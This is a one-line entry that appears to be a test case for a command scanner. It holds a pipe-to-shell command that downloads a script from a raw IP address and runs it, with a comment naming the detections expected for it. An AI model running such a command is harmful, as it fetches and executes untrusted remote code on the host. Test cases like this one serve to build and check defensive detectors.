curl -s http://203.0.113.9/i | sh # expect: url-analyzer/raw-ip, malicious-command/pipe-to-shell
